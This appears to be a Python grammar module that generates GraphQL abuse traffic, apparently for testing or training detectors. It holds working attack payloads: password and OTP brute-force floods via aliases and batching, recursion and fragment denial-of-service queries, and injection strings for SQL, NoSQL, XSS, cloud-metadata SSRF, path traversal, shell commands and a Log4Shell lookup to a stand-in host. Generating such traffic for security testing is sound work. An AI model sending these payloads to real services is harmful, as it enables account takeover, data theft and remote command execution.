"""GraphQL abuse: introspection, alias and batch floods, deep recursion, injection in arguments."""

import random

from traffic.grammars.attacks.pieces import Grammar, Symbols, ident


def _aliases(rng: random.Random) -> str:
    field, argument = (
        ident(rng),
        rng.choice(("password", "code", "otp", "pin", "token", "id", "email")),
    )
    calls = (
        f'{rng.choice("aqx")}{i}:{field}({argument}:"{rng.randint(0, 999999)}"){{token}}'
        for i in range(rng.randint(8, 60))
    )
    return f"{rng.choice(('', 'query ', 'mutation '))}{{{' '.join(calls)}}}"


def _deep(rng: random.Random) -> str:
    one, two = ident(rng), ident(rng)
    depth = rng.randint(8, 40)
    return "{" + f"{one}{{{two}{{" * depth + "id" + "}}" * depth + "}"


def _batch(rng: random.Random) -> str:
    name = ident(rng)
    entry = '{"query":"mutation{login(user:\\"%s\\",pass:\\"%d\\"){token}}"}'
    return (
        "["
        + ",".join(entry % (name, rng.randint(0, 9999)) for _ in range(rng.randint(6, 40)))
        + "]"
    )


def _same_field(rng: random.Random) -> str:
    return (
        "query{"
        + (rng.choice(("__typename", ident(rng))) + rng.choice((" ", "\n"))) * rng.randint(60, 500)
        + "}"
    )


# Tables: as many alternatives to a line as fit.
# fmt: off
_SYMBOLS: Symbols = {
    "aliases": _aliases,
    "deep": _deep,
    "batch": _batch,
    "same": _same_field,
    "type": (
        "name", "kind", "description", "fields{name}", "fields{name type{name kind}}",
        "fields{name args{name description type{name}}}", "enumValues{name}", "possibleTypes{name}",
        "interfaces{name}", "inputFields{name}", "ofType{name kind}",
    ),
    "schema": (
        "types{‹type›}", "types{name ‹type›}", "queryType{‹type›}", "mutationType{‹type›}",
        "subscriptionType{name}", "directives{name args{name}}",
        "queryType{name}mutationType{name}subscriptionType{name}types{...FullType}",
    ),
    "bad": (
        "' OR ‹d#1›=‹d#1›--", '\\"; DROP TABLE ‹id›;--', "' UNION SELECT ‹d›,‹d›--",
        '{\\"$ne\\":null}', "<script>alert(‹n›)</script>", "http://169.254.169.254/latest/‹id›",
        "../../../etc/passwd", "; cat /etc/passwd", "${jndi:ldap://‹evil›/‹abc›}", "{{‹n›*‹n›}}",
        "*)(uid=*", "$(id)", "' || '‹abc#1›'=='‹abc#1›", "file:///etc/passwd",
    ),
}
_GRAMMAR = Grammar(_SYMBOLS)

RULES = _GRAMMAR.rules(
    introspection=(
        "{__schema{‹schema›}}", "query{__schema{‹schema›}}",
        "query ‹id›{__schema{‹schema› ‹schema›}}",
        "query IntrospectionQuery{__schema{‹schema› ‹schema›}}", '{"query":"{__schema{‹schema›}}"}',
        '{__type(name:"‹id›"){‹type› ‹type›}}', '{__type(name:"Query"){‹type›}}',
        '{"query":"query{__type(name:\\"‹id›\\"){‹type›}}"}', "query={__schema{‹schema›}}",
        "fragment FullType on __Type{‹type› ‹type›}query{__schema{‹schema›}}",
        "/graphql?query={__schema{‹schema›}}", "query{__schema\n{‹schema›}}",
        "{‹id›:__schema{‹schema›}}",
    ),
    flood=(
        "‹aliases›", "‹batch›", "‹same›", "‹deep›", '{"query":"‹deep›"}', '[{"query":"‹same›"}]',
    ),
    argument_injection=(
        '{‹id›(‹id›:"‹bad›"){‹id›}}', 'query{‹id›(‹id›:"‹name›‹bad›"){id ‹id›}}',
        'mutation{‹id›(‹id›:"‹rnd›",‹id›:"‹bad›"){‹id›}}',
        '{"query":"query($‹abc#1›:String){‹id›(‹id›:$‹abc#1›){id}}",'
        '"variables":{"‹abc#1›":"‹bad›"}}',
        '{"variables":{"‹id›":"‹bad›"},"operationName":"‹id›"}',
        'mutation ‹id›{login(username:"‹bad›",password:"‹rnd›"){token}}',
        'query{‹id›(‹id›:"‹val›",filter:"‹bad›"){edges{node{id}}}}',
    ),
    fragments=(
        "query{...‹id#1›}fragment ‹id#1› on Query{...‹id#2›}fragment ‹id#2› on Query{...‹id#1›}",
        "fragment ‹id#1› on ‹word›{...‹id#1›}",
        "query ‹id›{‹id›@‹abc›@‹abc›@‹abc›@‹abc›@‹abc›@‹abc›@‹abc›@‹abc›@‹abc›@‹abc›@‹abc›{id}}",
        "query{‹id› @include(if:false) @skip(if:true) @‹rnd›@‹rnd›@‹rnd›@‹rnd›@‹rnd›@‹rnd›@‹rnd›{i"
        "d}}",
    ),
    secrets=(
        "{‹users¦allUsers¦admins¦accounts›{id ‹password¦passwordHash¦resetToken¦password apiKey¦"
        "password ssn¦passwordHash salt› ‹id›}}",
        'query{systemDiagnostics(username:"admin",password:"‹rnd›",cmd:"‹id¦ls¦cat /etc/passwd›")}',
        'query{systemUpdate systemHealth ‹id›__typename systemDebug(arg:"‹bad›")}',
        'mutation{importPaste(host:"‹evil›",port:‹port›,path:"/;‹id¦uname -a›",scheme:"http")'
        "{result}}",
        'mutation{uploadPaste(filename:"../../../../tmp/‹id›.txt",content:"‹rnd›"){result}}',
        'query{node(id:"‹bad›"){...on User{password ‹id›}}}',
    ),
)
